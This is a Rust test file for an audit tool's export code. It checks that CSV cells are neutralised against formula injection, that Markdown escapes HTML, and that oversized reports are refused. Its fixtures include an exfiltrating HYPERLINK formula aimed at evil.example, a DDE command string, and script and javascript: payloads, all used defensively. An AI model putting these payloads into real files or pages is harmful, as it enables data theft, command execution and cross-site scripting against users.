//! Hostile content cannot reach the reader, and no input is too big: CSV cells a spreadsheet
//! would evaluate are neutralised, Markdown escapes HTML and its own syntax, reports over the
//! schema's limits are refused without exhausting memory, and no index wraps however many rules
//! a trail names.

mod common;

use assert_cmd::Command;
use auditor::chain::{ChainOptions, hours};
use auditor::period::Period;
use auditor::provenance::Provenance;
use auditor::report::{FindingRef, ReportDigest, RuleCounts, RuleDigest};
use auditor::source::Versioning;
use auditor::synth::{ReportSpec, RuleSpec};
use auditor::timeline::TimelineBuilder;
use chrono::{TimeZone, Utc};
use common::*;
use serde_json::Value;

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
];

/// A trail whose reports carry text chosen to attack each output format.
fn hostile_trail() -> Trail {
    let specs: Vec<ReportSpec> = (0..3)
        .map(|d| {
            let mut s3 = RuleSpec::standard(0, &FORMULAS);
            s3.name = "=cmd|' /C calc'!A0".to_owned();
            let mut html =
                RuleSpec::standard(1, &["x`|y<b>bold</b>", "[link](javascript:alert(1))"]);
            html.name = "<script>alert(1)</script>".to_owned();
            ReportSpec::new(
                morning("2026-07-01") + chrono::Duration::days(d),
                vec![s3, html],
            )
        })
        .collect();
    write_trail(&specs)
}

/// `auditor verify --format json` as of the fixture's last day: (exit code, result).
fn verify(t: &Trail) -> (i32, Value) {
    let out = Command::cargo_bin("auditor")
        .unwrap()
        .args(["verify", "--format", "json", "--as-of", AS_OF])
        .arg(t.root())
        .output()
        .unwrap();
    let v = serde_json::from_slice(&out.stdout).unwrap();
    (out.status.code().unwrap(), v)
}

fn timeline(t: &Trail, format: &str) -> String {
    let out = Command::cargo_bin("auditor")
        .unwrap()
        .args([
            "timeline",
            "--from",
            "2026-07-01",
            "--to",
            "2026-07-03",
            "--format",
            format,
        ])
        .arg(t.root())
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_are_neutralised() {
    let csv = timeline(&hostile_trail(), "csv");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes());
    let mut fields = std::collections::HashSet::new();
    for record in reader.records() {
        for field in record.unwrap().iter() {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "an active cell reached the CSV: {field:?}"
            );
            fields.insert(field.to_owned());
        }
    }
    for hostile in FORMULAS {
        assert!(
            fields.contains(&format!("'{hostile}")),
            "{hostile:?} not neutralised:\n{csv}"
        );
    }
    assert!(fields.contains("'=cmd|' /C calc'!A0"), "the rule name too");
    // Numbers the auditor writes are not text cells: a count stays a number.
    assert!(fields.contains("6"), "{csv}");
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(
        csv.contains("rule:=cmd"),
        "a header keeps its own prefix: {csv}"
    );
}

#[test]
fn markdown_escapes_html_and_its_own_syntax() {
    let md = timeline(&hostile_trail(), "md");
    assert!(
        !md.contains("<script") && !md.contains("<b>"),
        "raw HTML in:\n{md}"
    );
    assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
    // A would-be link in an identifier is inert inside its code span.
    assert_eq!(
        md.matches("[link](javascript").count(),
        md.matches("`[link](javascript:alert(1))`").count()
    );
    assert!(md.contains("`[link](javascript:alert(1))`"), "{md}");
    // An identifier with a backtick, a pipe and HTML stays in its table cell, escaped.
    assert!(md.contains("| x\\`\\|y&lt;b&gt;bold&lt;/b&gt; |"), "{md}");
    // A pipe in a rule name does not split its table cell.
    assert!(md.contains("| =cmd\\|' /C calc'\\!A0 | 0 | 6 |"), "{md}");
}

/// A report far over the schema's limits (70,000 rules, 23 MB) is refused from the typed check,
/// without the generic JSON tree the general validator would build. Memory is shown by
/// `benchmarks/bench_auditor.py` (`oversized_rss_mb`), not asserted here.
#[test]
fn a_report_over_the_schemas_limits_is_refused() {
    let t = clean_trail();
    let rules: Vec<RuleSpec> = (0..70_000)
        .map(|i| {
            let mut r = RuleSpec::standard(i % 3, &["one-resource"]);
            r.name = format!("rule-{i:05}-{}", "x".repeat(200));
            r.name.truncate(128);
            r
        })
        .collect();
    let mut v: Value = serde_json::from_slice(&t.read(9)).unwrap();
    let big = auditor::synth::report_value(
        &ReportSpec::new(morning("2026-07-10"), rules),
        9,
        v["reportId"].as_str().unwrap(),
        Some((
            v["chain"]["previousKey"].as_str().unwrap(),
            v["chain"]["previousSha256"].as_str().unwrap(),
        )),
    );
    v = big;
    let bytes = auditor::synth::encode(&v);
    assert!(bytes.len() > 20 << 20, "{}", bytes.len());
    t.write(9, &bytes);
    let (code, v) = verify(&t);
    assert_eq!(code, 1);
    let refused = problems_with(&v, "schema-violation");
    assert_eq!(refused.len(), 1, "{v:#}");
    assert_eq!(refused[0].0, t.keys[9]);
    assert!(
        refused[0].1.contains("rules has more than 1000 items"),
        "{}",
        refused[0].1
    );
    // A smaller report over a limit is explained by the general validator, with its path.
    let mut small: Value = serde_json::from_slice(&t.read(8)).unwrap();
    let rule = small["rules"][0].clone();
    small["rules"] = Value::Array(vec![rule; 1001]);
    t.write(8, &auditor::synth::encode(&small));
    let (_, v) = verify(&t);
    let refused = problems_with(&v, "schema-violation");
    assert!(
        refused
            .iter()
            .any(|(k, d)| k == &t.keys[8] && d.contains("/rules")),
        "{refused:?}"
    );
}

/// More than 65,536 rules (over a trail; one report holds at most 1,000): each finding is counted
/// under its own rule, none wraps onto another.
#[test]
fn no_rule_index_wraps() {
    let n = 70_000usize;
    let at = Utc.with_ymd_and_hms(2026, 7, 1, 6, 0, 0).unwrap();
    let rules = (0..n)
        .map(|i| RuleDigest {
            name: format!("rule-{i}"),
            complete: true,
            counts: RuleCounts {
                compliant: 1,
                non_compliant: u64::from(i == 65_536 || i == n - 1),
            },
            findings: if i == 65_536 || i == n - 1 {
                vec![FindingRef::new("AWS::S3::Bucket", &format!("bucket-{i}"))]
            } else {
                Vec::new()
            },
            excepted: 0,
            labels: Vec::new(),
        })
        .collect();
    let digest = ReportDigest {
        report_id: "0b6f3c1e-8d2a-5f4e-9c1b-2a3d4e5f6a7b".to_owned(),
        account: "123456789012".to_owned(),
        region: "us-east-1".to_owned(),
        environment_suffix: "dev".to_owned(),
        generated_at: at,
        sequence: 0,
        previous_key: None,
        previous_sha256: None,
        complete: true,
        rules,
        monitoring_issues: Vec::new(),
        exceptions: auditor::report::Exceptions::NotRecorded,
    };
    let period = Period::between("2026-07-01", "2026-07-01").unwrap();
    let mut builder = TimelineBuilder::new(period, period.to);
    builder.add("reports/2026/07/01/00000000-x.json", digest);
    let chain = auditor::chain::TrailCheck::new(Versioning::LocalFolder)
        .finish(ChainOptions::whole_trail(at, hours(26.0)), &[]);
    let provenance = Provenance::new("memory", "one day".to_owned(), at, None, &chain);
    let t = builder.finish("memory", chain, provenance);
    let day = &t.days[0];
    assert_eq!(day.by_rule.len(), n);
    assert_eq!(day.by_rule["rule-65536"], 1);
    assert_eq!(day.by_rule[&format!("rule-{}", n - 1)], 1);
    assert_eq!(
        day.by_rule["rule-0"], 0,
        "rule 65,536 must not wrap onto rule 0"
    );
    assert_eq!(day.total, 2);
    let exposures: Vec<&str> = t.exposures.iter().map(|e| e.rule.as_str()).collect();
    assert_eq!(exposures, ["rule-65536", "rule-69999"]);
}
